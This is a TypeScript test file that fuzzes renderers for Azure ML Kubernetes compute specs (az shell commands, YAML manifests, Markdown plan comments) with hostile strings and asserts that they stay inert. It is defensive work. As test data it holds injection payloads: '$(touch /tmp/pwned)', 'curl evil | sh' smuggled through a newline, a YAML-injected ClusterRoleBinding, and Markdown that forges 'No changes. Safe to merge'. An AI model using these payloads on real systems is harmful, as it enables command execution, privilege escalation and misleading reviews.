// Renderers against hostile text, bypassing validation: every string a spec (or a plan) can hold is
// replaced by generated text full of shell, YAML and Markdown syntax, and each renderer must keep
// the structure it intends. Validation rejects such specs; this proves the renderers would not
// need it (defence in depth).
import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { parseAllDocuments } from 'yaml';
import { desire } from '../desire/desire.ts';
import { instanceTypeManifests } from '../desire/instance-types.ts';
import type { ComputeResult } from '../apply/types.ts';
import type { Diagnostic } from '../diagnostics.ts';
import type { ComputeDocument } from '../model/types.ts';
import type { Plan } from '../plan/types.ts';
import { renderAzCommands } from './az.ts';
import { renderManifests } from './manifests.ts';
import { renderPlanMarkdown, renderPlanText } from './plan.ts';
import { diagnosticsMarkdown, resultsMarkdown } from './results.ts';

// ---------------------------------------------------------------------------------------------
// A minimal POSIX shell tokenizer: commands of words, each word a list of parts. It understands
// exactly what the az renderer may emit (bare words, single quotes, double quotes holding "$NAME",
// "$(cat 'FILE')" or "$(printenv 'NAME')", comments, backslash-newline); anything else the shell
// would expand or treat as an operator throws, so a renderer that emits it fails the test.
type Part = { lit: string } | { env: string } | { file: string } | { heredoc: string };
type Word = Part[];
type Command = Word[];

class Unexpected extends Error {}

function tokenize(src: string): Command[] {
  let i = 0;
  const OPERATORS = new Set([';', '&', '|', '<', '>', '(', ')', '`', '$', '{', '}', '*', '?', '[', '~', '!']);
  const pushLit = (w: Word, s: string): void => {
    const last = w[w.length - 1];
    if (last && 'lit' in last) last.lit += s;
    else w.push({ lit: s });
  };
  const substitution = (): Part => {
    // at "$(": a command of plain words up to ")".
    i += 2;
    const words: Word[] = [];
    for (;;) {
      while (src[i] === ' ') i++;
      if (src[i] === ')') {
        i++;
        break;
      }
      if (i >= src.length) throw new Unexpected('unterminated $(');
      words.push(word(true));
    }
    const text = words.map((w) => {
      if (w.length !== 1 || !('lit' in w[0]!)) throw new Unexpected('expansion inside $(...)');
      return w[0].lit;
    });
    if (text.length === 2 && text[0] === 'cat') return { file: text[1]! };
    if (text.length === 2 && text[0] === 'printenv') return { env: text[1]! };
    throw new Unexpected(`command substitution ${JSON.stringify(text)}`);
  };
  const doubleQuoted = (w: Word): void => {
    i++; // opening "
    if (!w.length) w.push({ lit: '' });
    for (;;) {
      if (i >= src.length) throw new Unexpected('unterminated "');
      const c = src[i]!;
      if (c === '"') {
        i++;
        return;
      }
      if (c === '\\') {
        const n = src[i + 1];
        if (n === '\n') i += 2;
        else if (n === '$' || n === '`' || n === '"' || n === '\\') {
          pushLit(w, n);
          i += 2;
        } else {
          pushLit(w, '\\');
          i++;
        }
      } else if (c === '`') {
        throw new Unexpected('backtick in double quotes');
      } else if (c === '$') {
        if (src[i + 1] === '(') w.push(substitution());
        else {
          const m = /^[A-Za-z_][A-Za-z0-9_]*/.exec(src.slice(i + 1));
          if (!m) throw new Unexpected(`$ in double quotes: ${src.slice(i, i + 10)}`);
          w.push({ env: m[0] });
          i += 1 + m[0].length;
        }
      } else {
        pushLit(w, c);
        i++;
      }
    }
  };
  function word(inSubstitution: boolean): Word {
    const w: Word = [];
    for (;;) {
      const c = src[i];
      if (c === undefined || c === ' ' || c === '\t' || c === '\n') break;
      if (inSubstitution && c === ')') break;
      if (c === "'") {
        const end = src.indexOf("'", i + 1);
        if (end < 0) throw new Unexpected("unterminated '");
        pushLit(w, src.slice(i + 1, end));
        i = end + 1;
      } else if (c === '"') doubleQuoted(w);
      else if (c === '\\') {
        if (src[i + 1] === '\n') i += 2;
        else if (i + 1 < src.length) {
          pushLit(w, src[i + 1]!);
          i += 2;
        } else throw new Unexpected('trailing backslash');
      } else if (OPERATORS.has(c)) throw new Unexpected(`unquoted ${JSON.stringify(c)} at ${JSON.stringify(src.slice(Math.max(0, i - 20), i + 20))}`);
      else {
        pushLit(w, c);
        i++;
      }
    }
    return w;
  }
  /** At `<<'DELIM'` ending its line: the body, up to the first line that is exactly DELIM (as the shell reads it). */
  const hereDoc = (): Part => {
    const m = /^<<'([A-Za-z0-9_]+)'\n/.exec(src.slice(i));
    if (!m) throw new Unexpected(`here-document at ${JSON.stringify(src.slice(i, i + 30))}`);
    i += m[0].length;
    const lines: string[] = [];
    for (;;) {
      if (i >= src.length) throw new Unexpected('unterminated here-document');
      const eol = src.indexOf('\n', i);
      const line = src.slice(i, eol === -1 ? src.length : eol);
      i = eol === -1 ? src.length : eol;
      if (line === m[1]) return { heredoc: lines.map((l) => `${l}\n`).join('') };
      lines.push(line);
      i++;
    }
  };
  const commands: Command[] = [];
  let current: Command = [];
  while (i < src.length) {
    const c = src[i]!;
    if (c === '<' && src.startsWith("<<'", i)) current.push([hereDoc()]);
    else if (c === ' ' || c === '\t') i++;
    else if (c === '\\' && src[i + 1] === '\n') i += 2;
    else if (c === '\n') {
      if (current.length) commands.push(current);
      current = [];
      i++;
    } else if (c === '#') {
      while (i < src.length && src[i] !== '\n') i++;
    } else current.push(word(false));
  }
  if (current.length) commands.push(current);
  return commands;
}

test('the tokenizer refuses what the shell would expand', () => {
  expect(tokenize("az a 'b c' d=\"$X\" \\\n  e # f $(g)\n# h\nx")).toEqual([[[{ lit: 'az' }], [{ lit: 'a' }], [{ lit: 'b c' }], [{ lit: 'd=' }, { env: 'X' }], [{ lit: 'e' }]], [[{ lit: 'x' }]]]);
  expect(tokenize(`k="$(cat 'a b')"`)).toEqual([[[{ lit: 'k=' }, { file: 'a b' }]]]);
  expect(tokenize("kubectl apply -f - <<'EOF'\na: $(x) `y`\n EOF\nEOF\nnext")).toEqual([[[{ lit: 'kubectl' }], [{ lit: 'apply' }], [{ lit: '-f' }], [{ lit: '-' }], [{ heredoc: 'a: $(x) `y`\n EOF\n' }]], [[{ lit: 'next' }]]]);
  for (const bad of ['a $(touch x)', 'a "$(touch x)"', 'a `x`', 'a; b', 'a "`x`"', 'a | b', 'a > b']) expect(() => tokenize(bad)).toThrow(Unexpected);
});

// ---------------------------------------------------------------------------------------------
// Hostile text.
const FRAGMENTS = [
  '\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\0', '\t', '\u001b[31m', '$(touch /tmp/pwned)', '`id`', '${HOME}', '$HOME', "'", '"', '\\', "'\\''",
  ';', '&&', '|', '>', '<', '#', '---', '\n---\n', '...', '\n---\nkind: ClusterRoleBinding\n', ': ', '- ', '{', '}', '[', ']', '*', '&a', '!!str', '? ',
  '<details>', '</details>', '<summary>', '</summary>', '![img](x)', '[link](http://x)', '```', '~~~', '|', '**', '_', '# No changes. Safe to merge', '<img src=x>', '&lt;', '&amp;', '@team',
  '-', '--yes', ' ', '%', '=', 'A', 'é', '😀', '\u200b', 'INSTANCE_TYPES', '\nINSTANCE_TYPES\n', 'INSTANCE_TYPES_1',
];
const hostile = fc
  .array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ unit: 'binary-ascii', maxLength: 4 }), fc.string({ unit: 'grapheme', maxLength: 3 })), { minLength: 1, maxLength: 6 })
  .map((parts) => parts.join(''));

// ---------------------------------------------------------------------------------------------
// Spec documents with a marker in every string field and map key; `fill` replaces each marker.
const SUB = '00000000-0000-0000-0000-000000000001';
type Tls = 'secret' | 'files' | 'env';

/** A spec whose every string is `s(i)` and every map key `k(i)`, for i numbering the fields. */
function spec(tls: Tls, s: (i: number) => string, k: (i: number) => string): ComputeDocument {
  const tlsBlock = tls === 'secret' ? { cname: s(20), secretName: s(21) } : tls === 'files' ? { cname: s(20), certFile: s(21), keyFile: s(22) } : { cname: s(20), certEnv: s(21), keyEnv: s(22) };
  return {
    apiVersion: 'aml-k8s/v1',
    kind: 'KubernetesCompute',
    metadata: { name: s(1), owner: s(2), description: s(3), labels: { [k(4)]: s(5) } },
    spec: {
      cluster: { type: 'aks', subscriptionId: s(10), resourceGroup: s(11), name: s(12), distribution: s(13) },
      extension: {
        name: s(14),
        releaseTrain: s(15),
        version: s(16),
        autoUpgradeMinorVersion: false,
        training: true,
        inference: { routerServiceType: 'LoadBalancer', tls: tlsBlock },
        nodeSelector: { [k(23)]: s(24) },
        settings: { [k(25)]: s(26), 'nginxIngress.controller': s(27) },
        protectedSettings: { [k(28)]: { env: s(29) }, [k(30)]: { file: s(31) }, relayServerConnectionString: { env: s(32) } },
      },
      attach: {
        computeName: s(40),
        workspace: { subscriptionId: s(41), resourceGroup: s(42), name: s(43) },
        namespace: s(44),
        identity: { type: 'UserAssigned', ids: [s(45)] },
        description: s(46),
      },
      instanceTypes: { [k(50)]: { nodeSelector: { [k(51)]: s(52) }, resources: { requests: { cpu: '1', memory: '2Gi' }, limits: { cpu: '2', memory: '4Gi' } } } },
      storage: {
        [k(60)]: { mountPath: s(61), size: '1Gi', storageClassName: s(62), mountOptions: [s(63)], volume: { nfs: { server: s(64), path: s(65) } } },
        [k(66)]: { mountPath: s(67), size: '1Gi', volume: { csi: { driver: s(68), volumeHandle: s(69), volumeAttributes: { [k(70)]: s(71) }, nodeStageSecretName: s(72), fsType: s(73) } } },
        [k(74)]: { mountPath: s(75), size: '1Gi', volume: { azureFile: { shareName: s(76), secretName: s(77), storageAccount: s(78), resourceGroup: s(79) } } },
      },
    },
  };
}

const marker = (i: number): string => `Zq${i}qZ`;
const keyMarker = (i: number): string => `Kq${i}qK`;
/** Each key gets its own text (keys of one map must differ), never an integer-like one (objects reorder those). */
const hostileKey = (h: string, i: number): string => `${h}~${i}`;

function substitute(text: string, h: string): string {
  return text.replace(/Zq\d+qZ/g, () => h).replace(/Kq(\d+)qK/g, (_m, i: string) => hostileKey(h, Number(i)));
}
function substituteTokens(commands: Command[], h: string): Command[] {
  return commands.map((c) =>
    c.map((w) => {
      const out: Word = [];
      for (const p of w) {
        // A here-document's YAML quotes the text its own way: compared as YAML, not as text (see below).
        const q: Part = 'lit' in p ? { lit: substitute(p.lit, h) } : 'env' in p ? { env: substitute(p.env, h) } : 'file' in p ? { file: substitute(p.file, h) } : { heredoc: '' };
        const last = out[out.length - 1];
        if ('lit' in q && last && 'lit' in last) last.lit += q.lit;
        else out.push(q);
      }
      return out;
    }),
  );
}

const RUNS = 5000;
const tlsKind = fc.constantFrom<Tls>('secret', 'files', 'env');
const absent = fc.boolean();

describe('renderers keep their structure whatever the spec holds (validation bypassed)', () => {
  test(`az: the commands and arguments are exactly the intended ones, the text intact (${RUNS} hostile strings)`, () => {
    let rendered = 0;
    fc.assert(
      fc.property(hostile, tlsKind, absent, (h, tls, gone) => {
        const withState = (d: ComputeDocument): ComputeDocument => (gone ? { ...d, spec: { ...d.spec, state: 'absent' } } : d);
        const expected = substituteTokens(tokenize(renderAzCommands(withState(spec(tls, marker, keyMarker)))), h);
        let text: string;
        try {
          text = renderAzCommands(withState(spec(tls, () => h, (i) => hostileKey(h, i))));
        } catch (err) {
          // NUL cannot be a shell argument: the renderer refuses rather than truncate.
          expect(h.includes('\0') && (err as { code?: string }).code === 'UNSAFE_SHELL_TEXT').toBe(true);
          return;
        }
        const got = tokenize(text);
        const bodies = got.flatMap((c) => c.flatMap((w) => w.flatMap((p) => ('heredoc' in p ? [p.heredoc] : []))));
        const blank = (cs: Command[]): Command[] => cs.map((c) => c.map((w) => w.map((p) => ('heredoc' in p ? { heredoc: '' } : p))));
        expect(blank(got)).toEqual(blank(expected));
        // The instance types' here-document holds exactly the planned objects, whatever the text.
        const hostileDoc = withState(spec(tls, () => h, (i) => hostileKey(h, i)));
        const planned = gone ? [] : [JSON.parse(JSON.stringify(instanceTypeManifests(hostileDoc.spec.instanceTypes!, h).map((m) => (m.form === 'object' ? m.object : undefined))))];
        expect(bodies.map((b) => parseAllDocuments(b)).map((docs) => (Array.isArray(docs) ? docs.map((d) => (d.errors.length ? d.errors : d.toJS())) : docs))).toEqual(planned);
        rendered++;
      }),
      { numRuns: RUNS },
    );
    expect(rendered).toBeGreaterThan(RUNS / 2);
  });

  test(`manifests: the documents are exactly the planned objects (${RUNS} hostile strings)`, () => {
    let rendered = 0;
    fc.assert(
      fc.property(hostile, tlsKind, (h, tls) => {
        const state = desire(spec(tls, () => h, (i) => hostileKey(h, i)), { specDir: '.' });
        const planned = state.manifests.flatMap((m) => (m.form === 'object' ? [m.object] : []));
        const docs = parseAllDocuments(renderManifests(state));
        const list = Array.isArray(docs) ? docs : [];
        expect(list.flatMap((d) => d.errors)).toEqual([]);
        expect(list.map((d) => d.toJS())).toEqual(JSON.parse(JSON.stringify(planned)));
        expect(JSON.stringify(planned)).toContain(JSON.stringify(h).slice(1, -1));
        rendered++;
      }),
      { numRuns: RUNS },
    );
    expect(rendered).toBe(RUNS);
  });

  /** Markdown outside code fences, and the fences' own lines. */
  function markdownStructure(md: string): { outside: string[]; fences: number } {
    const outside: string[] = [];
    let fence: string | undefined;
    let fences = 0;
    for (const line of md.split('\n')) {
      const m = /^(`{3,})/.exec(line);
      if (fence === undefined && m) {
        fence = m[1]!;
        fences++;
      } else if (fence !== undefined) {
        if (line === fence) {
          fence = undefined;
          fences++;
        }
      } else outside.push(line);
    }
    expect(fence).toBeUndefined();
    return { outside, fences };
  }
  /** No `<` but the renderer's own tags, no `[` but the alert, no line the input could have started. */
  function expectNoInjectedMarkup(lines: string[]): void {
    for (const line of lines) {
      expect(line.replace(/<\/?(details|summary|code|br)>/g, '')).not.toMatch(/[<\r\u2028\u2029\u0085]/);
      expect(line.replace('> [!WARNING]', '').replace('(`allow-disruptive`)', '')).not.toMatch(/[[\]`]/);
      expect(line === '' || /^(### |\*\*|\| |\|---|<details><summary>|<\/details>|- |> |#### )/.test(line)).toBe(true);
    }
  }

  function hostilePlan(h: string): Plan {
    const id = `/subscriptions/${h}/resourceGroups/${h}/providers/Microsoft.MachineLearningServices/workspaces/${h}/computes/${h}`;
    const settings = [
      { key: h, before: h, after: h },
      { key: h, after: h },
      { key: h, before: h },
      { key: h, before: 'a', after: h },
      { key: h, protected: true, fingerprint: `v1:${h}` },
    ];
    return {
      computes: [
        {
          name: h, file: h, blocked: h, notes: [h, h],
          removal: { reason: 'absent', keeps: [h], loses: [h] },
          changes: [
            { target: 'extension', action: 'update', id, disruptive: true, reasons: [h, `x ${h}`], settings },
            { target: 'compute', action: 'create', id, disruptive: false, reasons: [h] },
            { target: 'roleAssignment', action: 'create', id, disruptive: false, reasons: [h], roleAssignment: { role: h, scope: h, identityId: h, command: `az ${h}` } },
            { target: 'kubernetes', action: 'create', id, disruptive: false, reasons: [h], object: { apiVersion: h, kind: h, name: h, namespace: h, clusterId: h }, settings },
          ],
        },
        { name: `${h}2`, file: h, notes: [], changes: [{ target: 'compute', action: 'noop', id, disruptive: false, reasons: [] }] },
      ],
      summary: { create: 3, update: 1, replace: 0, delete: 0, noop: 1, disruptive: 1 },
      hash: h,
    } as Plan;
  }

  test(`plan Markdown: the same blocks, rows and fences, no markup from the input (${RUNS} hostile strings)`, () => {
    const reference = markdownStructure(renderPlanMarkdown(hostilePlan('plain')));
    const count = (lines: string[], re: RegExp): number => lines.filter((l) => re.test(l)).length;
    fc.assert(
      fc.property(hostile, (h) => {
        const md = renderPlanMarkdown(hostilePlan(h), { title: h });
        const got = markdownStructure(md);
        expect(got.fences).toBe(reference.fences);
        for (const re of [/<details>/, /<\/details>/, /<summary>/, /<\/summary>/, /^\|/, /^```/]) expect(count(got.outside, re)).toBe(count(reference.outside, re));
        expect(got.outside.length).toBe(reference.outside.length);
        // Every table row keeps its six cell borders.
        for (const row of got.outside.filter((l) => l.startsWith('|'))) expect(row.split('|').length).toBe(7);
        expectNoInjectedMarkup(got.outside);
        // The terminal text carries no control character of the input.
        expect(renderPlanText(hostilePlan(h))).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/);
      }),
      { numRuns: RUNS },
    );
  });

  test(`diagnostics and results Markdown: one row each, no markup from the input (${RUNS} hostile strings)`, () => {
    fc.assert(
      fc.property(hostile, (h) => {
        const diagnostics: Diagnostic[] = [{ severity: 'error', code: h, message: h, file: h, line: 1, column: 2, setting: h }];
        const results: ComputeResult[] = [{ name: h, file: h, outcome: 'failed', changes: [], durationMs: 5, error: { message: h, remedy: h } }];
        for (const [md, borders] of [[diagnosticsMarkdown(diagnostics, 'Errors'), 5], [resultsMarkdown(results), 6]] as const) {
          const { outside, fences } = markdownStructure(md);
          expect(fences).toBe(0);
          const rows = outside.filter((l) => l.startsWith('|'));
          expect(rows).toHaveLength(3);
          for (const row of rows) expect(row.split('|').length).toBe(borders + 1);
          expectNoInjectedMarkup(outside);
        }
      }),
      { numRuns: RUNS },
    );
  });
});

// ---------------------------------------------------------------------------------------------
// The attacker's inputs, one by one.
describe('reported attacks', () => {
  const base = (over: (d: ComputeDocument) => void, tls: Tls = 'secret'): ComputeDocument => {
    const d = spec(tls, (i) => `v${i}`, (i) => `k${i}`);
    d.spec.cluster.subscriptionId = SUB;
    over(d);
    return d;
  };

  test('keyEnv "K$(touch x)" is one printenv argument, not a command', () => {
    const text = renderAzCommands(base((d) => (d.spec.extension!.inference!.tls = { cname: 'ml.contoso.com', certEnv: 'C', keyEnv: 'K$(touch x)' }), 'env'));
    expect(text).toContain(`sslKeyPemFile="$(printenv 'K$(touch x)')"`);
    expect(tokenize(text).flat(2)).toContainEqual({ env: 'K$(touch x)' });
  });

  test('a newline in attach.description or metadata.name stays inside the comment', () => {
    const text = renderAzCommands(base((d) => {
      d.metadata.name = 'x\ncurl evil | sh';
      d.spec.attach!.description = 'y\ntouch /tmp/pwned';
    }));
    expect(text).not.toMatch(/^(curl|touch)/m);
    expect(text).toContain('# az commands for compute x\\u000acurl evil | sh');
    expect(tokenize(text).map((c) => c[0])).toEqual(expect.arrayContaining([[{ lit: 'az' }]]));
    expect(tokenize(text).every((c) => 'lit' in c[0]![0]! && ['az', 'kubectl'].includes((c[0]![0] as { lit: string }).lit))).toBe(true);
  });

  test('a name holding "\\n---\\n" and a ClusterRoleBinding adds no document to the manifests', () => {
    const evil = 'x\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata: { name: pwn }\n';
    const d = base((doc) => {
      doc.metadata.name = evil;
      doc.spec.attach!.computeName = evil;
      doc.spec.storage = { [evil]: { mountPath: evil, size: '1Gi', volume: { nfs: { server: evil, path: evil } } } };
    });
    const state = desire(d, { specDir: '.' });
    const docs = parseAllDocuments(renderManifests(state));
    const kinds = (Array.isArray(docs) ? docs : []).map((x) => (x.toJS() as { kind: string }).kind);
    expect(kinds).not.toContain('ClusterRoleBinding');
    expect(kinds).toEqual(state.manifests.flatMap((m) => (m.form === 'object' ? [(m.object as { kind: string }).kind] : [])));
  });

  test('a name closing <details> cannot print "No changes. Safe to merge" or an image in the plan comment', () => {
    const evil = 'x</summary>\n\n</details>\n\n### No changes. Safe to merge\n![img](https://evil/x.png)\n<details><summary>';
    const md = renderPlanMarkdown(hostilePlanFor(evil));
    expect(md.match(/<details>/g)).toHaveLength(1);
    expect(md.match(/<\/details>/g)).toHaveLength(1);
    expect(md).not.toMatch(/^### No changes/m);
    expect(md).not.toContain('![img]');
    expect(md).toContain('x&lt;/summary&gt; &lt;/details&gt; &#35;&#35;&#35; No changes. Safe to merge &#33;&#91;img&#93;(https://evil/x.png)');
  });
});

function hostilePlanFor(name: string): Plan {
  const id = '/subscriptions/s/resourceGroups/r/providers/Microsoft.MachineLearningServices/workspaces/w/computes/c';
  return {
    computes: [{ name, file: 'specs/x.yaml', notes: [], changes: [{ target: 'compute', action: 'create', id, disruptive: false, reasons: [`attach ${name}`] }] }],
    summary: { create: 1, update: 0, replace: 0, delete: 0, noop: 0, disruptive: 0 },
    hash: 'h',
  } as Plan;
}
